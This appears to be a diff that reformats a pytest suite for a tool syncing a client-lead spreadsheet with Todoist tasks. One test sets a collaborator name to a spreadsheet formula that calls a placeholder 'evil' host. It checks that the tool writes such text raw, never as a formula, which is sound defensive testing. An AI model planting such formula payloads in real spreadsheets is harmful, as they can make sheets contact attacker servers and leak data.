@@ -7,8 +7,8 @@ from collections import Counter
 from datetime import date, timedelta
 
 import pytest
-from conftest import World, lead_row
 
+from conftest import World, lead_row
 from journey_sync.dates import date_to_serial
 from journey_sync.errors import UserError
 from journey_sync.funnel import funnel
@@ -37,7 +37,9 @@ def assert_footer_right(world: World) -> None:
     figures = funnel(world.workflow, model.leads)
     footer_rows = [f.row for f in model.footer]
     assert footer_rows, "no footer"
-    assert min(footer_rows) > max((lead.row for lead in model.leads), default=1), "a lead is under the footer"
+    assert min(footer_rows) > max((lead.row for lead in model.leads), default=1), (
+        "a lead is under the footer"
+    )
     total_row = footer_rows[0]
     for stage in figures.stages:
         assert world.sheet.get(total_row, stage.header) == stage.reached, stage.header
@@ -60,7 +62,10 @@ def test_a_new_lead_gets_exactly_its_tasks(make_world) -> None:  # type: ignore[
     assert hold is not None and hold.at is not None and hold.at.hour == 10
     assert tasks["check_in_12m"].due.day == date(2027, 3, 2)  # type: ignore[union-attr]
     assert f"journey-sync: lead {lead_id} · step contact" in tasks["contact"].description
-    assert world.todoist.projects and next(iter(world.todoist.projects.values()))[0].name == "Client journeys"
+    assert (
+        world.todoist.projects
+        and next(iter(world.todoist.projects.values()))[0].name == "Client journeys"
+    )
 
 
 def test_second_cycle_with_no_changes_plans_nothing_and_writes_nothing(make_world) -> None:  # type: ignore[no-untyped-def]
@@ -153,7 +158,10 @@ def test_leaving_fills_left_on_colours_red_and_removes_open_tasks(make_world) ->
     report = world.cycle()
     assert report.tasks_removed == len(world.workflow.steps) - 1
     assert world.mark("Ann Lee", "When left journey") == date_to_serial(TODAY)
-    assert (world.sheet.row_of("Ann Lee"), world.sheet.header_column("When left journey")) in world.sheet.date_cells
+    assert (
+        world.sheet.row_of("Ann Lee"),
+        world.sheet.header_column("When left journey"),
+    ) in world.sheet.date_cells
     assert world.todoist.task_for(ann, "contact").checked  # done work stays done
     open_for_ann = [t for t in world.todoist.active() if f"lead {ann} " in t.description]
     assert open_for_ann == []
@@ -188,7 +196,9 @@ def test_paid_rows_turn_green_and_red_wins(make_world) -> None:  # type: ignore[
 
 
 def test_sorted_rows_and_renamed_lead_keep_their_tasks(make_world) -> None:  # type: ignore[no-untyped-def]
-    world = make_world([lead_row("Cy Dunn", TODAY), lead_row("Ann Lee", TODAY), lead_row("Bo Chan", TODAY)], TODAY)
+    world = make_world(
+        [lead_row("Cy Dunn", TODAY), lead_row("Ann Lee", TODAY), lead_row("Bo Chan", TODAY)], TODAY
+    )
     world.cycle()
     ids = {name: world.lead_id(name) for name in ("Ann Lee", "Bo Chan", "Cy Dunn")}
     world.sheet.sort_leads("Client name", first=2, last=4)
@@ -207,7 +217,11 @@ def test_rows_inserted_above_keep_identity_and_footer(make_world) -> None:  # ty
     world.cycle()
     ann = world.lead_id("Ann Lee")
     world.sheet.insert_rows(2, 2)
-    for header, value in zip(["Client name", "Date of lead", "Source of lead"], ["New Nia", date_to_serial(TODAY), "Web"], strict=True):
+    for header, value in zip(
+        ["Client name", "Date of lead", "Source of lead"],
+        ["New Nia", date_to_serial(TODAY), "Web"],
+        strict=True,
+    ):
         world.sheet.set(3, header, value)
     world.todoist.complete(world.todoist.task_for(ann, "contact").id)
     report = world.cycle()
@@ -258,7 +272,10 @@ def test_footer_makes_room_instead_of_overwriting_peoples_notes(make_world) -> N
     world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
     world.sheet.set(4, "How did you hear about us?", "NOTE: call Ann's sister")
     world.cycle()
-    assert world.sheet.get(world.sheet.last_row(), "How did you hear about us?") == "NOTE: call Ann's sister"
+    assert (
+        world.sheet.get(world.sheet.last_row(), "How did you hear about us?")
+        == "NOTE: call Ann's sister"
+    )
     assert_footer_right(world)
 
 
@@ -279,7 +296,9 @@ def test_coach_name_comes_from_the_assignee(make_world) -> None:  # type: ignore
     world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
     world.todoist.collaborators["u7"] = "Coach Kim"
     world.cycle()
-    world.todoist.assign(world.todoist.task_for(world.lead_id("Ann Lee"), "refer_to_coach").id, "u7")
+    world.todoist.assign(
+        world.todoist.task_for(world.lead_id("Ann Lee"), "refer_to_coach").id, "u7"
+    )
     world.cycle()
     assert world.mark("Ann Lee", "Name of coach") == "Coach Kim"
 
@@ -288,10 +307,20 @@ def test_text_from_todoist_written_raw_never_as_formula(make_world) -> None:  # 
     world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
     world.todoist.collaborators["u7"] = '=IMPORTXML("http://evil","//a")'
     world.cycle()
-    world.todoist.assign(world.todoist.task_for(world.lead_id("Ann Lee"), "refer_to_coach").id, "u7")
+    world.todoist.assign(
+        world.todoist.task_for(world.lead_id("Ann Lee"), "refer_to_coach").id, "u7"
+    )
     world.cycle()
-    written = [v for w in world.sheet.applied for v in w.values if isinstance(v.value, str) and v.value.startswith("=")]
-    assert written and all(not any(f.formula == v.value for w in world.sheet.applied for f in w.formulas) for v in written)
+    written = [
+        v
+        for w in world.sheet.applied
+        for v in w.values
+        if isinstance(v.value, str) and v.value.startswith("=")
+    ]
+    assert written and all(
+        not any(f.formula == v.value for w in world.sheet.applied for f in w.formulas)
+        for v in written
+    )
 
 
 def test_crash_after_todoist_ran_a_batch_does_not_duplicate(make_world) -> None:  # type: ignore[no-untyped-def]
@@ -307,7 +336,9 @@ def test_crash_after_todoist_ran_a_batch_does_not_duplicate(make_world) -> None:
 
 
 def test_state_database_lost_rebuilds_without_duplicates_or_lost_marks(make_world) -> None:  # type: ignore[no-untyped-def]
-    world = make_world([lead_row("Ann Lee", TODAY - timedelta(days=3)), lead_row("Bo Chan", TODAY)], TODAY)
+    world = make_world(
+        [lead_row("Ann Lee", TODAY - timedelta(days=3)), lead_row("Bo Chan", TODAY)], TODAY
+    )
     world.cycle()
     ann = world.lead_id("Ann Lee")
     world.todoist.complete(world.todoist.task_for(ann, "contact").id)
@@ -334,7 +365,7 @@ def test_deleted_project_is_a_clear_error(make_world) -> None:  # type: ignore[n
     world = make_world([lead_row("Ann Lee", TODAY)], TODAY)
     world.cycle()
     world.todoist.delete_project(next(iter(world.todoist.projects)))
-    with pytest.raises(UserError, match="Client journeys.*was deleted: restore it"):
+    with pytest.raises(UserError, match=r"Client journeys.*was deleted: restore it"):
         world.cycle()
 
 
